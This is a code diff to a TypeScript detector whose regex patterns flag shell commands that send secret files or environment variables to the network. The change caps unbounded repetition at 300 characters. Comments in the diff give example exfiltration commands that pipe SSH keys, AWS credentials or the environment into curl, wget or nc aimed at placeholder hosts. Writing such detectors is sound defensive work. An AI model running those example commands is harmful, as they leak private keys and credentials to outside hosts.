@@ -19,7 +19,7 @@ const PATTERNS: { regex: RegExp; what: string }[] = [
   {
     // cat ~/.ssh/id_rsa | curl -d @- https://x ; base64 ~/.aws/credentials | nc host 4444
     regex: new RegExp(
-      String.raw`(?:${SECRET_SOURCE})[^|\n]*\|\s*(?:[\w-]+\s+[^|\n]*\|\s*)?${NETWORK_SINK}`,
+      String.raw`(?:${SECRET_SOURCE})[^|\n]{0,300}\|\s*(?:[\w-]+\s+[^|\n]{0,300}\|\s*)?${NETWORK_SINK}`,
       'i',
     ),
     what: 'pipes a secret file into a network command',
@@ -27,7 +27,7 @@ const PATTERNS: { regex: RegExp; what: string }[] = [
   {
     // env | curl -X POST --data-binary @- https://x
     regex: new RegExp(
-      String.raw`(?:^|[;&|(\x60]\s*|\$\(\s*)${ENV_DUMP}\s*(?:\|\s*[\w-]+[^|\n]*)?\|\s*${NETWORK_SINK}`,
+      String.raw`(?:^|[;&|(\x60]\s*|\$\(\s*)${ENV_DUMP}\s*(?:\|\s*[\w-]+[^|\n]{0,300})?\|\s*${NETWORK_SINK}`,
       'i',
     ),
     what: 'pipes the environment into a network command',
@@ -35,7 +35,7 @@ const PATTERNS: { regex: RegExp; what: string }[] = [
   {
     // curl -d @~/.aws/credentials https://x ; curl -F "f=@$HOME/.ssh/id_rsa" ; wget --post-file=.env
     regex: new RegExp(
-      String.raw`${NETWORK_SINK}[^\n]*(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|--post-file|--body-file|-InFile)[\s=]*["']?[\w-]*=?@?(?:${SECRET_SOURCE})`,
+      String.raw`${NETWORK_SINK}[^\n]{0,300}(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|--post-file|--body-file|-InFile)[\s=]*["']?[\w-]*=?@?(?:${SECRET_SOURCE})`,
       'i',
     ),
     what: 'uploads a secret file',
@@ -43,7 +43,7 @@ const PATTERNS: { regex: RegExp; what: string }[] = [
   {
     // curl https://x?d=$(cat ~/.ssh/id_rsa) ; curl -d "$(env)" https://x
     regex: new RegExp(
-      String.raw`${NETWORK_SINK}[^\n]*(?:\$\(|\x60)\s*(?:(?:cat|base64|gzip|tar\s+\S+|type|get-content)\s+[^)\x60\n]*(?:${SECRET_SOURCE})|${ENV_DUMP}\s*[)\x60])`,
+      String.raw`${NETWORK_SINK}[^\n]{0,300}(?:\$\(|\x60)\s*(?:(?:cat|base64|gzip|tar\s+\S+|type|get-content)\s+[^)\x60\n]{0,300}(?:${SECRET_SOURCE})|${ENV_DUMP}\s*[)\x60])`,
       'i',
     ),
     what: 'embeds a secret file or the environment in a request',
